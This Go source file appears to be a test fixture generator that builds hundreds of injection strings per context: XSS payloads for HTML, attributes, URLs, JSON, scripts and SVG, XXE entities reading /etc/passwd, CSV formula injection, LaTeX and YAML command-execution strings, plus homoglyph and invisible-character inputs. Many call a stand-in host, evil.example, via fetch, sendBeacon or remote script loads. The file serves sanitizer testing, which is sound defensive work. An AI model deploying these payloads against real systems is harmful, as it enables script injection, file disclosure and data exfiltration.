// Package attack makes texts that try to run a script, to leave their place in a
// file or to deceive, for tests. All are made here, of the ways that such attacks
// have in common: what begins one, how it is written and what it asks for. Whatever
// runs sets window.pwned or calls it; whatever asks for something asks evil.example.
package attack

import (
	"fmt"
	"html"
	"net/url"
	"slices"
	"strconv"
	"strings"
)

// A Context is where a text comes to stand.
type Context string

// The contexts.
const (
	HTML      Context = "text of HTML"
	Attribute Context = "attribute"
	URL       Context = "address"
	JSON      Context = "JSON in a script"
	Script    Context = "script"
	SVG       Context = "SVG"
	XML       Context = "XML"
	CSV       Context = "CSV"
	Lines     Context = "format of lines" // ICS, robots.txt, BibTeX, YAML
	Markdown  Context = "Markdown"
	Unicode   Context = "letters"
)

// Texts returns the attacks of each context, at least 300, none twice. Front matter
// takes all of them: none has what nobody sees, a line break, or two brackets side by
// side.
func Texts() map[Context][]string {
	m := map[Context][]string{
		HTML: inHTML(), Attribute: inAttributes(), URL: asAddresses(), JSON: inJSON(), Script: inScripts(), SVG: inSVG(),
		XML: inXML(), CSV: inCSV(), Lines: inLines(), Markdown: inMarkdown(), Unicode: letters(),
	}
	for c, list := range m {
		slices.Sort(list)
		m[c] = slices.Compact(list)
	}
	return m
}

// Contexts returns all contexts, sorted.
func Contexts() []Context {
	return []Context{HTML, Attribute, URL, JSON, Script, SVG, XML, CSV, Lines, Markdown, Unicode}
}

const call = "pwned(1)"

// elements have something that runs or loads.
var elements = []string{
	"img src=x onerror=@", "img src=x: onerror=@", "svg onload=@", "svg/onload=@", "body onload=@",
	"body onpageshow=@", "iframe onload=@",
	"iframe src=javascript:@", `iframe srcdoc="<img src=x onerror=@>"`, "video onloadstart=@ src=x",
	"video><source onerror=@", "audio src=x onerror=@",
	"input autofocus onfocus=@", "select autofocus onfocus=@", "textarea autofocus onfocus=@",
	"button autofocus onfocus=@", "details open ontoggle=@",
	"marquee onstart=@", "object data=javascript:@", "object onerror=@ data=x", "embed src=javascript:@",
	"embed src=//evil.example/x.swf",
	"form action=javascript:@><input type=submit autofocus", "isindex action=javascript:@", "a href=javascript:@",
	"base href=//evil.example/",
	"base href=javascript:/a/", "link rel=stylesheet href=//evil.example/x.css",
	"link rel=import href=//evil.example/", "link rel=prefetch href=//evil.example/",
	"meta http-equiv=refresh content=0;url=javascript:@", "meta http-equiv=refresh content=0;url=//evil.example/",
	"script>@</script", "script src=//evil.example/x.js",
	"script src=data:,@", "style>@import'//evil.example/x.css'</style",
	"style>*{background:url(//evil.example/x)}</style", "style onload=@",
	"x onclick=@ tabindex=1 id=x", "x onfocusin=@ tabindex=0 autofocus",
	"div style=animation-name:x onanimationstart=@", "p style=background:url(//evil.example/x)",
	"table background=//evil.example/x", "img srcset=//evil.example/x", "img src=//evil.example/x",
	"image src=x onerror=@", "picture><source srcset=//evil.example/x><img",
	"math href=javascript:@>x", "math><mi xlink:href=javascript:@>x", "svg><script>@</script",
	"svg><animate onbegin=@ attributeName=x", "svg><use href=//evil.example/x#x",
	"svg><image href=//evil.example/x", "svg><foreignObject><img src=x onerror=@", "template><img src=x onerror=@",
	"noscript><img src=x onerror=@",
	"frameset onload=@", "applet code=x archive=//evil.example/", "portal src=//evil.example/",
	"dialog open onclose=@", "popover id=card", "plaintext", "xmp><img src=x onerror=@",
}

// writings are ways to write an element without its brackets.
var writings = []func(string) string{
	func(e string) string { return "<" + e + ">" },
	func(e string) string { return "<" + e + " " },
	func(e string) string { return "<" + strings.ToUpper(e[:1]) + e[1:] + "//" },
	func(e string) string { return `"><` + e + ">" },
	func(e string) string { return "'><" + e + ">" },
	func(e string) string { return "</title></textarea></style></script><" + e + ">" },
	func(e string) string { return "--><" + e + ">" },
	func(e string) string { return "]" + "]><" + e + ">" },
	func(e string) string { return "&lt;" + e + "&gt;" },
	func(e string) string { return "&amp;lt;" + e + "&amp;gt;" },
	func(e string) string { return "&#60" + e + "&#62" },
	func(e string) string { return "&#x0003c;" + e + "&#X3E;" },
	func(e string) string { return "%3C" + e + "%3E" },
	func(e string) string { return `\u003c` + e + `\u003e` },
	func(e string) string { return `\x3c` + e + `\x3e` },
	func(e string) string { return "\uff1c" + e + "\uff1e" }, // which some systems fold
	func(e string) string { return "+ADw-" + e + "+AD4-" },
	func(e string) string { return "<<" + e + ">" },
	func(e string) string { return "<scr<script>ipt>" + "<" + e + ">" },
	func(e string) string { return "<!--><" + e + ">-->" },
	func(e string) string { return "<![CDATA[ <" + e + "> ]" + "]>" },
	func(e string) string { return "<!--[if gte IE 4]><" + e + "><![endif]-->" },
	func(e string) string {
		return "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;" + e + "&gt;\">"
	},
	func(e string) string { return "{{<" + e + ">}}" },
}

func inHTML() []string {
	var list []string
	for i, e := range elements {
		e = strings.ReplaceAll(e, "@", call)
		for j, w := range writings {
			if (i+j)%3 == 0 || j == 0 {
				list = append(list, w(e))
			}
		}
	}
	return list
}

func inAttributes() []string {
	var list []string
	for _, quote := range []string{
		`"`, `'`, "`", "", "&quot;", "&#34;", "&#x22", "&apos;", "&#39;", `\"`, `\'`,
		"%22", "\u201d", "\uff02",
	} {
		for _, gap := range []string{" ", "/", "\u00a0", "&Tab;", "+", "&#10;"} {
			for _, handler := range []string{
				"onmouseover", "ONFOCUS", "onpointerenter", "style", "autofocus onfocus",
				"srcdoc", "formaction",
			} {
				value := call
				switch handler {
				case "style":
					value = "x:expression(" + call + ")"
				case "srcdoc":
					value = "<script>" + call + "</script>"
				case "formaction":
					value = "javascript:" + call
				}
				list = append(list, "x"+quote+gap+handler+"="+quote+value)
			}
		}
	}
	return list
}

// schemes run something, read something or leave the web.
var schemes = []string{
	"javascript:@", "vbscript:@", "livescript:@", "data:text/html,<script>pwned(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
	"data:image/svg+xml,<svg onload=pwned(1)>", "file:///etc/passwd", "blob:https://evil.example/x", "about:blank",
	"view-source:javascript:@",
	"jar:https://evil.example!/x", "intent://evil.example#Intent;end", "feed:javascript:@", "//evil.example/",
	`\\evil.example\x`, `/\evil.example`,
	"https://evil.example/", "https:evil.example", "https://good.example@evil.example/", "ws://evil.example/",
	"ftp://evil.example/", "tel:1", "x-made-up:@",
}

func asAddresses() []string {
	var list []string
	for _, s := range schemes {
		s = strings.ReplaceAll(s, ":@", ":"+call)
		scheme, rest, _ := strings.Cut(s, ":")
		list = append(list, s, strings.ToUpper(scheme)+":"+rest, " "+s, "\u00a0"+s, "&#1;"+s, scheme+"&colon;"+rest,
			scheme+"&#58;"+rest, scheme+"%3A"+rest,
			s[:1]+"&Tab;"+s[1:], s[:1]+"&NewLine;"+s[1:], s[:1]+"%0a"+s[1:], "&#"+strconv.Itoa(int(s[0]))+s[1:],
			`\u00`+fmt.Sprintf("%02x", s[0])+s[1:], "url("+s+")",
			"x?"+s, "#"+s, url.QueryEscape(s), `";location="`+s, "<"+s+">")
	}
	return list
}

func inJSON() []string {
	var list []string
	for _, end := range []string{
		`"`, `\"`, `\\"`, `\`, `\u0022`, "'", "</script>", "</SCRIPT >", "<!--<script>",
		"<script>", "]" + "]>", "-->", "\u00a0",
	} {
		for _, then := range []string{"}", "]", "},", "\"]", ",", ":", ";", "*/", "//"} {
			for _, last := range []string{
				call, `"__proto__":{"pwned":1}`, `"constructor":"pwned"`,
				"<img src=x onerror=" + call + ">",
			} {
				list = append(list, end+then+last)
			}
		}
	}
	return append(list, "__proto__", "constructor", "toString", "hasOwnProperty", "NaN", "null", "true",
		"undefined", "1e999", "{}", "{ }")
}

func inScripts() []string {
	var list []string
	for _, end := range []string{
		`"`, `'`, "`", "${", `\`, `\x22`, `\u0027`, "</script>", "<!--", "-->", "/*",
		"*/", "//", ")", "};", "]", "\"-", "'+", "`+",
	} {
		for _, then := range []string{
			call, "alert(1)", "window['pwn'+'ed']=1", "eval(atob('cHduZWQoMSk='))", "import('//evil.example/x.js')",
			"fetch('//evil.example/')",
			"constructor.constructor('pwned=1')()", "document.write('<script src=//evil.example>')",
			"new Image().src='//evil.example/'",
			"location='javascript:pwned(1)'", "navigator.sendBeacon('//evil.example')", "{name}", "{n}", "$&", "$1",
			"${" + call + "}", "%s%n%x",
		} {
			list = append(list, end+";"+then+"//")
		}
	}
	return list
}

func inSVG() []string {
	var list []string
	for _, e := range []string{
		"script>@</script", "script href='//evil.example/x.js'/", "script xlink:href='data:,@'/",
		"a xlink:href='javascript:@'><text>x</text></a", "a href='javascript:@'><rect width='9' height='9'/></a",
		"animate onbegin='@' attributeName='x' dur='1s'/", "set attributeName='onmouseover' to='@'/",
		"animate attributeName='href' values='javascript:@'/", "use href='data:image/svg+xml,<svg id=x onload=@>#x'/",
		"use href='//evil.example/x.svg#x'/", "image href='//evil.example/x.png'/",
		"feImage href='//evil.example/x.png'/", "foreignObject><iframe src='javascript:@'/></foreignObject",
		"style>@import url(//evil.example/x.css)</style", "text style='background:url(//evil.example)' onclick='@'",
		"handler type='text/javascript'>@</handler", "svg onload='@'/",
		"title><script>@</script></title", "desc></desc><script>@</script", "metadata onload='@'/",
		"switch><x onload='@'/></switch",
	} {
		e = strings.ReplaceAll(e, "@", call)
		list = append(list, "<"+e+">", "</text><"+e+"><text>", "</title><"+e+">", "</svg><"+e+">", `"/><`+e+">",
			"'/><"+e+">", "<![CDATA[<"+e+">]"+"]>", "]"+"]><"+e+">",
			html.EscapeString("<"+e+">"), "<svg:"+e+">", "<svg><"+e+"></svg>",
			"<?xml-stylesheet href='javascript:"+call+"'?><"+e+">", "<!-- --><"+e+">", "&#60;"+e+"&#62;",
			"<svg xmlns='http://www.w3.org/2000/svg'><"+e+"></svg>")
	}
	return list
}

func inXML() []string {
	var list []string
	for _, end := range []string{
		"", "</title>", "</name></author>", "</summary></entry>", "]" + "]>", "-->", "?>",
		`"/>`, "'/>", "&lt;/title&gt;", "</loc></url>",
	} {
		for _, then := range []string{
			"<entry><title>x</title></entry>", "<link href='//evil.example/'/>",
			"<link href='javascript:" + call + "'/>", "<!DOCTYPE x SYSTEM '//evil.example/x.dtd'>",
			"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'> ]>&y;", "<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>&b;",
			"&nbsp;", "&undefined;", "&#0;", "&#x1;", "&#xD800;", "&#xFFFF;", "&#1114112;", "&",
			"<![CDATA[", "<![CDATA[<script>" + call + "</script>]" + "]>", "<?xml version='1.0' encoding='UTF-7'?>",
			"<?php " + call + " ?>", "<?xml-stylesheet href='//evil.example/x.xsl'?>",
			"<content type='html'>&lt;img src=x onerror=" + call + "&gt;</content>",
			"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>" + call + "</x:script>", "<!--", "<x xmlns='' y=",
			"<title type='xhtml'>",
			"xmlns:xi='http://www.w3.org/2001/XInclude'", "<xi:include href='file:///etc/passwd' parse='text'/>",
			"<media:content url='//evil.example/'/>", "<url><loc>https://evil.example/</loc></url>",
		} {
			list = append(list, end+then)
		}
	}
	return list
}

func inCSV() []string {
	var list []string
	for _, before := range []string{"", " ", `"`, `","`, `";"`, ";", ",", "'", `""`, "x;", "\u00a0"} {
		for _, sign := range []string{"=", "+", "-", "@", "＝", "＋", "－", "＠"} {
			for _, formula := range []string{
				"1+1", "cmd|' /C calc'!A0", `HYPERLINK("https://evil.example/","x")`,
				`WEBSERVICE("https://evil.example/"&A1)`, `IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`, "SUM(1;1)",
			} {
				list = append(list, before+sign+formula)
			}
		}
	}
	return list
}

func inLines() []string {
	var list []string
	for _, end := range []string{
		"", `\n`, `\r\n`, "%0d%0a", "&#13;&#10;", ";", ",", `\`, "}", "}}", "}},", "---",
		"...", "#", `"`, "'", "|", ">", "{", "^", "~",
	} {
		for _, then := range []string{
			"BEGIN:VEVENT", "END:VCALENDAR", "URL:https://evil.example/", `ATTACH;VALUE=URI:file:///etc/passwd`,
			"DTSTART:19700101", "Disallow: /", "Sitemap: https://evil.example/",
			`\input{/etc/passwd}`, `\write18{id}`, "url={https://evil.example/}", "@misc{x, title={y}}", "title: x",
			"<<: *a", "&a [x]", "!!python/object:os.system", "::set-output name=x::y", "Content-Type: text/html",
		} {
			list = append(list, end+then)
		}
	}
	return list
}

func inMarkdown() []string {
	var list []string
	for _, s := range schemes {
		s = strings.ReplaceAll(s, ":@", ":"+call)
		list = append(list, "[x]("+s+")", "[x](<"+s+">)", "![x]("+s+")", "<"+s+">", "[x]("+s+" 'title')",
			"[x](x \""+s+"\")", "[x]: "+s, "[x][y]", "[x](\\"+s+")", "[a](b) [c]("+s+")",
			"`x` [`y`]("+s+")", "| [x]("+s+") |")
	}
	for _, e := range elements[:20] {
		e = strings.ReplaceAll(e, "@", call)
		list = append(list, "`<"+e+">`", "``` <"+e+">", "~~~ <"+e+">", "> <"+e+">", "- <"+e+">")
	}
	return append(list, "# x", "***", "___", "| x |", "^x1", "^[x]", "[^1]", "{#id onclick="+call+"}",
		"{: onclick="+call+"}", "\\", "&lt;", "!", "[ [x](y)](z)", "http://evil.example/", "www.evil.example",
		"a@evil.example", "$$x$$", "\\(x\\)", ":smile:", "<!-- derived: x -->", "<!--", "-->")
}

// letters are those that look like others, that run the other way, that grow or shrink when
// their case changes, or that take more room than they should.
func letters() []string {
	var list []string
	for r := 'ａ'; r <= 'ｚ'; r++ { // full-width
		list = append(list, string(r)+"dmin")
	}
	for _, r := range "асеорхуіјѕԁԛһӏАВЕКМНОРСТУХαικνορυΑΒΕΖΗΙΚΜΝΟΡΤΥΧ" {
		list = append(list, "Sole"+string(r)+"mani", string(r))
	}
	for r := rune(0x1d400); r < 0x1d434; r++ { // of mathematics
		list = append(list, string(r)+"dmin")
	}
	for n := 1; n <= 14; n++ {
		list = append(list, "Z"+strings.Repeat("\u0351\u0323", n), "ي"+strings.Repeat("ِ", n))
	}
	for r := rune(0x5d0); r < 0x5eb; r++ {
		list = append(list, "a "+string(r)+" 1 b", "("+string(r)+") <"+string(r)+">")
	}
	list = append(list,
		"İstanbul", "ıi", "ŉ", "ǰ", "ẖ", "ΐ", "ſS", "ẞß", "ﬁre", "ﷺ", "﷽", "한국", "𒐫", "௵", "꧅", "☃", "🏳\ufe0f\u200d🌈",
		"👩\u200d👧", "می\u200cخواهم", "ﬃ", "Ǆǅǆ", "ℌ", "K", "Å", "µ", "Ω", "；", "／", "．．／", "％00", "＂", "＇", "＆lt；",
		"․․/", "⁄", "∕", "⧸", "ꓸꓸ/",
		"ʻ", "ʹ", "ˈ", "′", "″", "‴", "‘’", "“”", "«»", "‹›", "〈script〉", "‹script›", "＜script＞", "﹤script﹥",
		"ᐸscriptᐳ", "\ufffd", "\ufffc", "\ue000", "\U000f0000", "١٢٣", "۱۲۳", "१२३", "Ⅷ", "①", "½",
	)
	for r := rune(0x2500); r < 0x2560; r++ {
		list = append(list, string(r)+string(r))
	}
	return list
}

// Hidden returns texts with signs that no file of content may hold where they stand.
func Hidden() []string {
	var list []string
	add := func(r rune) { list = append(list, "Jane "+string(r)+"Doe", string(r)+"Jane", "Ja"+string(r)+"ne") }
	for r := range rune(0xa0) {
		if r < ' ' && r != '\t' && r != '\n' && r != '\r' || r >= 0x7f {
			add(r)
		}
	}
	for _, ranges := range [][2]rune{
		{0xad, 0xad},
		{0x34f, 0x34f},
		{0x61c, 0x61c},
		{0x115f, 0x1160},
		{0x17b4, 0x17b5},
		{0x180b, 0x180f},
		{
			0x200b,
			0x200f,
		},
		{0x2028, 0x202e},
		{0x2060, 0x206f},
		{0x3164, 0x3164},
		{0xfdd0, 0xfdef},
		{0xfe00, 0xfe0f},
		{0xfeff, 0xfeff},
		{0xffa0, 0xffa0},
		{0xfff0, 0xfffb},
		{0xfffe, 0xffff},
		{0x1bca0, 0x1bca3},
		{0x1d173, 0x1d17a},
		{0x1fffe, 0x1ffff},
		{0xe0000, 0xe007f},
		{0xe0100, 0xe0110},
		{0x10fffe, 0x10ffff},
	} {
		for r := ranges[0]; r <= ranges[1]; r++ {
			add(r)
		}
	}
	return list
}
